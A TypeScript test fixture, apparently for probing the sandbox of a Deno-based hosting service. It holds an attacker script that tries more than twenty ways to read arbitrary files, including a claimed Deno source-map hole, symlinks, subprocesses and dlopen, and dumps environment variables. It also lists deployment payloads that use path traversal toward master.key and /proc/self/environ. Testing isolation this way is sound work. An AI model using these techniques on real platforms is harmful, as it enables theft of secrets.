/**
 * A function from the attacker's side. It tries every known way to read a file, returns what it
 * read, prints it, and puts it into the errors that it throws.
 */

/** The attacker reports each result in its reply and in its log. */
export const ATTACKER = `
const DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const vlq = (number) => number < 16 ? DIGITS[number * 2] : DIGITS[((number * 2) & 31) | 32] + DIGITS[number >> 4];
const moduleOf = (code) => "data:text/javascript;base64," + btoa(code);
const core = () => Deno[Deno.internal].core;

/**
 * The hole of Deno 2.9.6: a source map that names a file makes Deno read its line. The bundler
 * rewrites the comment's name where it stands in one piece.
 */
async function throughAnError(path, line = 0) {
  const map = btoa(JSON.stringify({ version: 3, sources: ["file://" + path], names: [], mappings: "AA" + vlq(line) + "A" }));
  try {
    await import(moduleOf('throw new Error("x")\\n//# sourceMapping' + "URL=data:application/json;base64," + map));
  } catch (error) {
    const { sourceLine } = core().destructureError(error);
    console.error(error);
    return sourceLine ?? "";
  }
}
const importAs = (type) => async (path) => {
  const { default: content } = await import("file://" + path, { with: { type } });
  return typeof content === "string" ? content : new TextDecoder().decode(content);
};
const fs = (use) => async (path) => use(await import("node:fs"), path);

const WAYS = {
  throughAnError,
  throughItsSecondLine: (path) => throughAnError(path, 1),
  throughItsTwentiethLine: (path) => throughAnError(path, 20),
  readTextFile: (path) => Deno.readTextFile(path),
  open: async (path) => await new Response((await Deno.open(path)).readable).text(),
  list: (path) => [...Deno.readDirSync(path)].map(({ name }) => name).join(),
  importText: importAs("text"),
  importBytes: importAs("bytes"),
  importJson: importAs("json"),
  importInAModule: async (path) =>
    (await import(moduleOf("export { default } from " + JSON.stringify("file://" + path) + " with { type: 'text' }"))).default,
  readFileSync: fs((node, path) => node.readFileSync(path, "utf8")),
  readlinkSync: fs((node, path) => node.readlinkSync(path)),
  throughALink: fs((node, path) => {
    const link = "/tmp/" + crypto.randomUUID();
    node.symlinkSync(path, link);
    return node.readFileSync(link, "utf8");
  }),
  require: async (path) => JSON.stringify((await import("node:module")).createRequire("file:///")(path)),
  sqlite: async (path) => {
    const { DatabaseSync } = await import("node:sqlite");
    return JSON.stringify(new DatabaseSync(path, { readOnly: true }).prepare("SELECT name FROM apps").all());
  },
  fetch: async (path) => await (await fetch("file://" + path)).text(),
  worker: (path) => new Promise((resolve, reject) => {
    const code = "Deno.readTextFile(" + JSON.stringify(path) + ").then(postMessage)";
    const worker = new Worker(moduleOf(code), { type: "module" });
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = (event) => { event.preventDefault(); reject(new Error(event.message)); };
  }),
  command: (path) => new TextDecoder().decode(new Deno.Command("cat", { args: [path] }).outputSync().stdout),
  childProcess: async (path) => (await import("node:child_process")).execFileSync("cat", [path], { encoding: "utf8" }),
  library: (path) => String(Deno.dlopen("libc.so.6", { open: { parameters: ["buffer", "i32"], result: "i32" } })
    .symbols.open(new TextEncoder().encode(path + "\\0"), 0)),
  op: (path) => core().ops.op_fs_read_file_text_sync(path),
};

Deno.serve(async (request) => {
  const results = [];
  for (const path of await request.json()) {
    for (const [way, read] of Object.entries(WAYS)) {
      try {
        results.push([path, way, String(await read(path)).slice(0, 65_536)]);
      } catch (error) {
        results.push([path, way, "refused " + error]);
      }
    }
  }
  const own = [Deno.env.toObject(), (await import("node:process")).env.HOME, localStorage.getItem("left"), await (await (await caches.open("left")).match("http://left/"))?.text()];
  results.push(["", "own", JSON.stringify(own)]);
  for (const [path, way, result] of results) if (!result.startsWith("refused")) console.log(path, way, result);
  return Response.json(results);
});
`;

/** Deployments that make the bundler read a file, instead of the function. */
export const importsOf = (path: string): readonly string[] => [
  `import text from ${JSON.stringify(path)} with { type: "text" }; Deno.serve(() => new Response(text));`,
  `import text from ${JSON.stringify(`file://${path}`)} with { type: "text" }; Deno.serve(() => new Response(text));`,
  `const name = "master"; Deno.serve(async () => new Response((await import(\`./data/\${name}.key\`, { with: { type: "text" } })).default));`,
  `const name = "master"; Deno.serve(async () => new Response((await import(\`../../../../../..${path.replace(/master\.key$/, "")}\${name}.key\`, { with: { type: "text" } })).default));`,
  `export { default } from "../../shared/../../../../../..${path}";`,
  `import text from "/proc/self/environ" with { type: "text" }; Deno.serve(() => new Response(text));`,
  `import text from "/proc/1/environ" with { type: "bytes" }; Deno.serve(() => new Response(text));`,
  `Deno.serve(() => { throw new Error("x"); });\n//# sourceMappingURL=file://${path}`,
  `Deno.serve(() => { throw new Error("x"); });\n//# sourceMappingURL=data:application/json;base64,${Buffer.from(JSON.stringify({ version: 3, sources: [`file://${path}`], names: [], mappings: "AAAA" })).toString("base64")}`,
];
